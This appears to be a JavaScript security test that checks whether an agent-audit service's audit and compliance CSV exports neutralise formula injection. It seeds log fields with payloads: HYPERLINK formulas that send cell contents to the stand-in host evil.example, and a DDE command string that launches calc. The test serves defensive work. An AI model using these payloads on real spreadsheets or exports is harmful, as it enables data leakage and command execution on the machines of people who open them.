/* global console */
// Formula injection through the fields an agent writes at the start of a cell — a report's
// details, its call id, an outcome's error text — in the audit CSV and the compliance CSV (review 9
// put hostile text only inside arguments, which start with `{`).
import { client, keyOf, raw, result, tag } from './common.mjs';

const admin = client().api;
const agent = `csv${tag()}`;
await admin.sdk.registerAgent.mutate({ name: agent, allows: ['read'] });
const { key } = await keyOf('agent', [agent]);
const bot = client(key).api;
const viewerKey = (await keyOf('viewer')).key;
const starts = ['=', '+', '-', '@', '\t', '\r', '\n=', ' =', '\u00a0=', '\uff1d', '"=', "'="];
for (const s of starts) {
  await bot.sdk.log.mutate({ agent, action: 'read', status: 'ALLOWED', details: `${s}HYPERLINK("http://evil.example/?"&A1,"x")`, callId: `${s}cmd|' /C calc'!A0` });
}
const d = await bot.sdk.decide.mutate({ agent, action: 'read', args: {} });
await bot.sdk.complete.mutate({ callId: d.callId, outcome: 'error', durationMs: 1, error: '=HYPERLINK("http://evil.example","click")' }).catch((e) => console.log('NOTE    complete:', e.message));
const from = new Date(Date.now() - 3600e3).toISOString();
for (const [what, path] of [
  ['audit CSV', `/export/audit?format=csv&agent=${agent}`],
  ['compliance CSV', `/export/report?format=csv&agents=${agent}&from=${from}`],
]) {
  const r = await raw('GET', path, { key: viewerKey });
  // Split into cells the way a spreadsheet would: RFC 4180.
  const cells = [];
  let cell = '', quoted = false;
  for (let i = 0; i < r.text.length; i++) {
    const c = r.text[i];
    if (quoted) {
      if (c === '"' && r.text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') { cells.push(cell); cell = ''; }
    else if (c !== '\r' || r.text[i + 1] !== '\n') cell += c;
  }
  const bad = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c));
  result(`${what}: no agent-written cell starts a formula (${cells.length} cells)`, r.status === 200 && bad.length === 0, `${r.status} ${JSON.stringify(bad.slice(0, 3))}`);
  const hosts = cells.filter((c) => c.includes('evil.example')).length;
  result(`${what}: the hostile rows are there (the check above is meaningful)`, hosts >= starts.length, `${hosts}`);
}
